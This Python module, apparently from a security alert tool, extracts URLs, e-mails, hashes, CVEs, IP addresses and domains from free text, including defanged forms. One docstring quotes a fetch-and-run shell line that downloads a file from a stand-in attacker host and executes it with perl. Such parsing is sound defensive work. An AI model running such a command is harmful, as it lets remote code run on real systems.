"""Addresses, names and hashes in free text, in time that grows with its length only.

No pattern can go back over what it read: every run is possessive, and starts only where no run did before.
"""

from __future__ import annotations

import ipaddress
import re
from collections.abc import Callable, Iterator
from typing import Final, NamedTuple

from alerttui.domain.defanged import host_of
from alerttui.domain.indicator_fields import FREE_TEXT, Hints
from alerttui.domain.name_endings import ALSO_FIELDS, ALSO_FILES, NO_NAMES, NOISE_HOSTS, domain_note


class Spotted(NamedTuple):
    """One indicator as it stands in a text."""

    kind: str
    value: str
    """What it means: in plain form, names in lower case."""
    written: str
    """As it stands there, disarmed or not."""
    note: str = ""


_DOT: Final = r"(?:\.|\[\.\]|\(\.\)|\{\.\}|\[dot\]|\(dot\))"
_AT: Final = r"(?:@|\[@\]|\[at\]|\(at\))"
_SCHEME: Final = r"(?:h(?:tt|xx)ps?|s?ftps?|fxps?|ldaps?|rmi|iiop|dns|smb|wss?|tcp|udp|ssh|telnet|s3|gs)"
_SLASHES: Final = r"(?::|\[:\])(?:\\?/){2}|\[:(?:\\?/){2}\]"

_URL: Final = re.compile(
    rf"(?<![A-Za-z0-9]){_SCHEME}(?:{_SLASHES})(?:[^\s\"'<>`|{{}}^\\\x00-\x1f]|\\/)++", re.IGNORECASE
)
_EMAIL: Final = re.compile(rf"(?<![\w.+%-])[\w.+%-]++{_AT}[\w-]++(?:{_DOT}[\w-]++)++", re.IGNORECASE)
_HASH: Final = re.compile(r"(?<![\w-])[0-9A-Fa-f]{32,128}+(?![\w-])")
_CVE: Final = re.compile(r"(?<![A-Za-z0-9])cve[-._ ](\d{4})-(\d{4,7})(?!\d)", re.IGNORECASE)
_IPV6: Final = re.compile(r"(?<![\w:.])(?:[0-9A-Fa-f]{0,4}:){2,8}[0-9A-Fa-f.]{0,15}(?:/\d{1,3})?(?![\w:])")
_IPV4: Final = re.compile(
    rf"(?<![\w.])\d{{1,3}}(?:{_DOT}\d{{1,3}}){{3}}(?:/\d{{1,2}}(?!\d))?(?![\w-]|{_DOT}\w)"
)
_NAME: Final = re.compile(rf"(?<![\w.@$%-])[\w-]++(?:{_DOT}[\w-]++)++", re.IGNORECASE)

_DISARMED_DOT: Final = re.compile(r"\[\.\]|\(\.\)|\{\.\}|\[dot\]|\(dot\)", re.IGNORECASE)
_DISARMED_AT: Final = re.compile(r"\[@\]|\[at\]|\(at\)", re.IGNORECASE)
_DISARMED_SCHEMES: Final = (("hxxp", "http"), ("fxp", "ftp"))
_NEXT_URL: Final = re.compile(r"[,;|](?=h(?:tt|xx)ps?:)", re.IGNORECASE)
_COMMAND_BEHIND: Final = re.compile(r";[A-Za-z]{1,12}$")
"""What follows in a shell's line: `wget http://evil.example/x;perl x`."""
_SERIAL: Final = re.compile(r"(?:[0-9A-Fa-f]{2}:){7}[0-9A-Fa-f]{2}")
"""A certificate's number, which could be read as an address."""
_LABEL_BEFORE: Final = re.compile(r"([A-Za-z][A-Za-z0-9]{1,11})\s?[=:]\s?$")
_VERSION_BEFORE: Final = re.compile(
    r"(?:\bv|ver|version|build|release|rev|firmware|revision)[\s=:/\"]{0,3}$", re.I
)

_HASH_NAMES: Final = {32: "md5", 40: "sha1", 64: "sha256", 128: "sha512"}
_OTHER_HASHES: Final = frozenset(("imphash", "ja3", "ja3s", "authentihash", "tlsh", "pehash"))
_OF_NOTHING: Final = frozenset(
    (
        "d41d8cd98f00b204e9800998ecf8427e",
        "da39a3ee5e6b4b0d3255bfef95601890afd80709",
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    )
)
"""Hashes of an empty file."""

_MAX_URL: Final = 4_096
_MAX_NAME: Final = 253
_LOOKED_BACK: Final = 16
"""Characters before a match that tell what it is."""

_SPECIAL_NETWORKS: Final = tuple(
    (ipaddress.ip_network(network), note)
    for network, note in (
        ("10.0.0.0/8", "private"), ("172.16.0.0/12", "private"), ("192.168.0.0/16", "private"),
        ("fc00::/7", "private"), ("100.64.0.0/10", "shared by a carrier"), ("192.0.2.0/24", "documentation"),
        ("198.51.100.0/24", "documentation"), ("203.0.113.0/24", "documentation"),
        ("2001:db8::/32", "documentation"), ("255.255.255.255/32", "broadcast"),
    )
)  # fmt: skip

Read = Callable[[re.Match[str]], list[Spotted]]


def spotted_in(text: str, hints: Hints = FREE_TEXT) -> list[Spotted]:
    """What stands in a text, as far as the name of its field does not speak against it."""
    found: list[Spotted] = []
    if "//" in text or "\\/" in text:
        text = _taken(_URL, text, _urls, found)
    if "@" in text or "at" in text:
        text = _taken(_EMAIL, text, _email, found)
    if hints.has_hashes and len(text) >= min(_HASH_NAMES):
        text = _taken(_HASH, text, _hash, found)
    _taken(_CVE, text, _cve, found)
    if hints.has_addresses:
        if text.count(":") > 1:
            text = _taken(_IPV6, text, _ipv6, found)
        text = _taken(_IPV4, text, _ipv4, found)
    if hints.has_names:
        _taken(_NAME, text, _name_in_field if hints.kind == "domain" else _name, found)
    return found


def _taken(pattern: re.Pattern[str], text: str, read: Read, found: list[Spotted]) -> str:
    """The text without what a pattern found in it, so that nothing is read twice."""
    kept: list[str] = []
    position = 0
    for match in pattern.finditer(text):
        spotted = read(match)
        if spotted:
            found += spotted
            kept += (text[position : match.start()], " ")
            position = match.end()
    return "".join((*kept, text[position:])) if kept else text


# -- URLs and e-mail addresses


def _urls(match: re.Match[str]) -> list[Spotted]:
    return [spotted for part in _NEXT_URL.split(match.group()) for spotted in _url(part)]


def _url(run: str) -> Iterator[Spotted]:
    written = _without_tail(run[: _MAX_URL + 1])
    value = _armed(written.replace("\\/", "/"))
    host = host_of(value)
    if host in NOISE_HOSTS or not host.strip("[]"):
        return
    if len(written) <= _MAX_URL:
        yield Spotted("url", value, written)
    yield from _host(host)


def _host(host: str) -> Iterator[Spotted]:
    """The host of a URL, which is an indicator of its own."""
    address = _address(host.strip("[]"))
    if address is not None:
        yield Spotted("ip", str(address), str(address), address_note(address))
    elif "." in host and len(host) <= _MAX_NAME and not host.replace(".", "").isdigit():
        name = host.rstrip(".")
        yield Spotted("domain", name, name, domain_note(name) or "")


def _without_tail(run: str) -> str:
    """A run without the signs of the sentence around it: a full stop, a bracket that was opened before."""
    end = len(run)
    open_round = run.count("(") - run.count(")")
    open_square = run.count("[") - run.count("]")
    while end:
        last = run[end - 1]
        if last == ")" and open_round < 0:
            open_round += 1
        elif last == "]" and open_square < 0:
            open_square += 1
        elif last not in ".,;:!?*~":
            break
        end -= 1
    return _COMMAND_BEHIND.sub("", run[:end])


def _armed(written: str) -> str:
    """The plain form of what may have been disarmed."""
    plain = _DISARMED_AT.sub("@", _DISARMED_DOT.sub(".", written)).replace("[:]", ":").replace("[://]", "://")
    lowered = plain[:5].lower()
    for disarmed, scheme in _DISARMED_SCHEMES:
        if lowered.startswith(disarmed):
            return scheme + plain[len(disarmed) :]
    return plain


def _email(match: re.Match[str]) -> list[Spotted]:
    written = match.group()
    local, _, domain = _armed(written).lower().rpartition("@")
    ending = domain.rpartition(".")[2]
    if not 0 < len(local) <= 64 or len(domain) > _MAX_NAME or not _is_word(ending) or local == "git":
        return []
    if _is_file_ending(ending, domain) or local.startswith(".") or local.endswith("."):
        return []
    return [Spotted("email", f"{local}@{domain}", written)]


def _is_word(ending: str) -> bool:
    return len(ending) > 1 and (ending.isalpha() or ending.startswith("xn--"))


def _is_file_ending(ending: str, domain: str) -> bool:
    return ending in ("png", "jpg", "jpeg", "gif", "svg", "js", "css") and domain.count(".") == 1


# -- hashes and vulnerabilities


def _hash(match: re.Match[str]) -> list[Spotted]:
    written = match.group()
    name = _HASH_NAMES.get(len(written))
    text, start = match.string, match.start()
    before = text[max(0, start - _LOOKED_BACK) : start]
    if name is None or written.isdigit() or len(set(written.lower())) < 4 or before.endswith("://"):
        return []
    label = _LABEL_BEFORE.search(before)
    if label is not None:
        word = label[1].lower()
        if word in _OTHER_HASHES:
            name = word
        elif word.endswith(("id", "token", "session", "hash")) and not word.startswith(
            ("md5", "sha", "hash")
        ):
            return []
    value = written.lower()
    return [Spotted("hash", value, written, f"{name}, of an empty file" if value in _OF_NOTHING else name)]


def _cve(match: re.Match[str]) -> list[Spotted]:
    return [Spotted("cve", f"CVE-{match[1]}-{match[2]}", match.group())]


# -- addresses

Address = ipaddress.IPv4Address | ipaddress.IPv6Address


def _address(text: str) -> Address | None:
    try:
        return ipaddress.ip_address(text)
    except ValueError:
        return None


def address_note(address: Address) -> str:
    """What kind of address it is where it is no public one."""
    for network, note in _SPECIAL_NETWORKS:
        if address in network:
            return note
    for note in ("unspecified", "loopback", "multicast", "link_local"):
        if getattr(address, f"is_{note}"):
            return note.replace("_", "-")
    return "" if address.is_global else "reserved"


def _ipv6(match: re.Match[str]) -> list[Spotted]:
    written = match.group().rstrip(".")
    bare, slash, bits = written.partition("/")
    address = _address(bare) if ":" in bare else None
    if _SERIAL.fullmatch(bare):
        return []
    if address is None or len(bare) < 3 or (bare.count(":") < 3 and not any(map(str.isdigit, bare))):
        return []
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None and not slash:
        return [Spotted("ip", str(address.ipv4_mapped), written, address_note(address.ipv4_mapped))]
    return [Spotted("ip", str(address) + slash + bits, written, _network_note(address, bits))]


def _ipv4(match: re.Match[str]) -> list[Spotted]:
    text, start, end = match.string, match.start(), match.end()
    written = match.group()
    bare, _, bits = written.partition("/")
    address = _address(_armed(bare))
    if address is None or _VERSION_BEFORE.search(text[max(0, start - _LOOKED_BACK) : start]):
        return []
    if text[end : end + 2] == "./" or (text[start - 1 : start] == "/" and text[end : end + 1] in (".", "/")):
        return []
    if bits and int(bits) <= 32 and not int(address) & ((1 << (32 - int(bits))) - 1):
        return [Spotted("ip", f"{address}/{bits}", written, _network_note(address, bits))]
    return [Spotted("ip", str(address), bare, address_note(address))]


def _network_note(address: Address, bits: str) -> str:
    if bits == "0":
        return "every address"
    note = address_note(address)
    return f"{note} network".strip() if bits else note


# -- names


def _name(match: re.Match[str]) -> list[Spotted]:
    text, start, end = match.string, match.start(), match.end()
    written, before, after = match.group(), text[max(0, start - 2) : start], text[end : end + 1]
    disarmed = _DISARMED_DOT.search(written) is not None
    is_share = before == "\\\\"
    if after in ("(", "=", "@") or (not is_share and ("\\" in (after, before[-1:]) or before[-1:] == "/")):
        return []
    last = written.rpartition(".")[2]
    if not disarmed and last != last.lower() and written != written.upper():
        return []  # System.Net, Microsoft.Network: names of code
    name = _checked_name(written)
    if name is None or domain_note(name) is None:
        return []
    return [Spotted("domain", name, written, domain_note(name) or "")] if disarmed or _is_surely(name) else []


def _is_surely(name: str) -> bool:
    """Whether a dotted word in free text is a name on the network rather than of a file, field or package."""
    labels = name.split(".")
    ending = labels[-1]
    if name in NO_NAMES or ending in ALSO_FIELDS or "_" in name or labels[0] == "microsoft":
        return False
    if len(labels) == 2:
        return ending not in ALSO_FILES and (len(labels[0]) > 1 or len(ending) > 2 or ending == "co")
    return labels[0] not in ("com", "org", "net", "io", "java", "javax", "sun", "self", "this")


def _name_in_field(match: re.Match[str]) -> list[Spotted]:
    """A name in a field that says it holds one: its ending may be any word."""
    written = match.group()
    name = _checked_name(written)
    if name is None or match.string.strip(" .\"'") != written:
        return []
    return [Spotted("domain", name, written, domain_note(name) or "")]


def _checked_name(written: str) -> str | None:
    name = _armed(written).lower()
    labels = name.split(".")
    if len(name) > _MAX_NAME or not _is_word(labels[-1]) or not any(map(str.isalpha, name)):
        return None
    if any(not label or len(label) > 63 or label.startswith("-") or label.endswith("-") for label in labels):
        return None
    return name
